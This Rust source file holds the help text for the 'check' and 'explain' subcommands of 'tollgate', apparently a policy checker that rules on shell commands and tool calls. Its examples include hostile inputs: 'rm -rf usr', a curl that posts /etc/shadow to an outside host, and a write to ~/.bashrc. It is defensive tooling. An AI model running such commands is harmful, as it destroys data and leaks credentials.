//! What stands after the options of `check` and `explain`.

pub(super) const CHECK: &str = "\
Examples:
  tollgate check -- git push --force
  tollgate check --line 'cd / && rm -rf usr'
  tollgate check --policy new.yaml --json -- npm publish
  tollgate check --tool Write --path ~/.bashrc

JSON:
  decision   allow, ask or deny
  rule       the rule that decides, or default or unknown
  because    the same in words, with its file and line
  unknown    why a part is not known, or null
  view       how it is read: commands, a list, and unread, a list of reasons
  commands   each with command, program, subcommand, flags, operands, directories, starts_another, known, open,
             other_readings, effects, bounded (whether all that it does is known)
  matches    every rule that matches, the strictest first: rule, decision, file, line, column, layer, command,
             reason, suggest, severity, controls, tags
  policy     the digest of the policies

Exit status:
  0    allow
  1    deny
  2    ask
  125  error: a policy that does not load, or wrong usage";

pub(super) const EXPLAIN: &str = "\
Examples:
  tollgate explain -- git push --force
  tollgate explain --line 'curl -d @/etc/shadow https://host.example'

JSON:
  decision   allow, ask or deny
  rule       the rule that decides, or default or unknown
  because    the same in words, with its file and line
  unknown    why a part is not known, or null
  view       how it is read: commands, a list, and unread, a list of reasons
  commands   each with command, program, subcommand, flags, operands, directories, starts_another, known, open,
             other_readings, effects, bounded (whether all that it does is known)
  matches    every rule that matches, the strictest first: rule, decision, file, line, column, layer, command,
             reason, suggest, severity, controls, tags
  policy     the digest of the policies

Exit status:
  0    allow
  1    deny
  2    ask
  125  error: a policy that does not load, or wrong usage";
